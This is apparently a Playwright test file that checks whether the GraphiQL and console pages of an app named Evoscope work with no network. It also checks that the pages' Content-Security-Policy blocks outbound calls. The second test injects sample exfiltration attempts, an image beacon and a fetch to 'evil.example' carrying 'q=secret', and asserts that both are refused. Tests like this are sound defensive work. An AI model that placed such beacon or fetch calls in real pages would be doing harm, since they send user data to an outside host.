import type { Browser, Page, Route } from 'playwright-core';
import { api } from '../../harness/client';
import { startTestStack, TestStack } from '../../harness/stack';
import { launchChromium, screenshot, watchPageErrors } from '../../harness/browser';
import { ensureWebBuilt } from '../../harness/consoleStack';

/**
 * The pages the API serves work with no network and cannot phone home: GraphiQL renders its editor
 * with every request to a non-local host aborted, and the console's Content-Security-Policy stops a
 * script-free attempt to load a remote image or call another host.
 */
let stack: TestStack;
let browser: Browser;
let page: Page;
let errors: string[];
/** Requests the page tried to send off this machine (each one aborted). */
let remote: string[];

const isLocal = (url: string) => ['127.0.0.1', 'localhost', '[::1]'].includes(new URL(url).hostname);

beforeAll(async () => {
  ensureWebBuilt();
  [stack, browser] = await Promise.all([startTestStack('offline-pages', {}, { withWorker: false }), launchChromium()]);
});
beforeEach(async () => {
  const context = await browser.newContext();
  remote = [];
  await context.route('**/*', (route: Route) => {
    const url = route.request().url();
    if (url.startsWith('http') && !isLocal(url)) {
      remote.push(url);
      return route.abort();
    }
    return route.continue();
  });
  page = await context.newPage();
  errors = watchPageErrors(page);
});
afterEach(() => page?.context().close());
afterAll(async () => {
  await browser?.close();
  await stack?.stop();
});

it('GraphiQL at /graphql renders its editor with no network', async () => {
  await page.goto(`${stack.baseUrl}/graphql`);
  await page.locator('.graphiql-container .graphiql-editor').first().waitFor({ timeout: 60_000 });
  await page.locator('.monaco-editor').first().waitFor({ timeout: 60_000 });
  await screenshot(page, 'graphiql-offline');
  expect(await page.title()).toBe('Evoscope GraphQL');
  expect(remote).toEqual([]);
  expect(errors.filter((e) => /Content Security Policy|Refused to/i.test(e))).toEqual([]);
});

it('the console loads under its Content-Security-Policy, which refuses remote images and connections', async () => {
  const response = await page.goto(`${stack.baseUrl}/?token=${stack.token}`);
  expect(response?.headers()['content-security-policy']).toMatch(/default-src 'self'/);
  await page.locator('#root *').first().waitFor({ timeout: 60_000 });
  const blocked = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const image = new Image();
    const loaded = new Promise<string>((resolve) => {
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('refused');
    });
    image.src = 'https://evil.example/pixel.png?q=secret';
    const fetched = await fetch('https://evil.example/collect?q=secret').then(
      () => 'sent',
      () => 'refused',
    );
    return { image: await loaded, fetched, violations };
  });
  expect(blocked.image).toBe('refused');
  expect(blocked.fetched).toBe('refused');
  expect(blocked.violations).toEqual(expect.arrayContaining(['img-src', 'connect-src']));
  // The policy stopped them before the network: the browser never tried to reach the host.
  expect(remote).toEqual([]);
  const consoleErrors = errors.filter((e) => !/evil\.example/.test(e));
  expect(consoleErrors.filter((e) => /Content Security Policy|Refused to/i.test(e))).toEqual([]);
  expect((await api(stack, 'GET', '/healthz/api')).status).toBe(200);
});
